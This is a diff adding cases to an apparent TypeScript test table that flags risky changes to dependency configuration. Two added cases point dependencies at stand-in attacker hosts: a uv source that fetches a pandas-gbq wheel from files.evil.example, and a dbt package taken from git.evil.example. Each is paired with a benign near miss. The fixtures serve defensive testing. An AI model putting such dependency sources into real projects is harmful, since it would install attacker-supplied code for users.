@@ -12,6 +12,32 @@ const ROOT = '/home/dev/project';
 
 const ROWS: { note: string; file: string; content: string; asked: boolean }[] = [
   {
+    note: "a uv source that takes a package's wheel from an outside host",
+    file: 'pyproject.toml',
+    content:
+      '[tool.uv.sources]\npandas-gbq = { url = "https://files.evil.example/pandas_gbq-0.23.1-py3-none-any.whl" }\n',
+    asked: true,
+  },
+  {
+    note: 'near miss: a uv source in the workspace',
+    file: 'pyproject.toml',
+    content: '[tool.uv.sources]\nacme-lib = { workspace = true }\n',
+    asked: false,
+  },
+  {
+    note: 'a dbt package from an outside git host',
+    file: 'dbt/packages.yml',
+    content: 'packages:\n  - git: "https://git.evil.example/pkgs/dbt-utils.git"\n    revision: main\n',
+    asked: true,
+  },
+  {
+    note: "near miss: dbt packages from the hub and the organisation's own git",
+    file: 'dbt/packages.yml',
+    content:
+      'packages:\n  - package: dbt-labs/dbt_utils\n    version: 1.2.0\n  - git: "https://git.acme.internal/data/dbt-common.git"\n    revision: 1.0.0\n',
+    asked: false,
+  },
+  {
     note: 'a kustomize remote base on a branch',
     file: 'deploy/k8s/overlays/dev/kustomization.yaml',
     content: 'resources:\n  - ../../base\n  - https://github.com/k8s-addons-x/manifests//debug?ref=main\n',
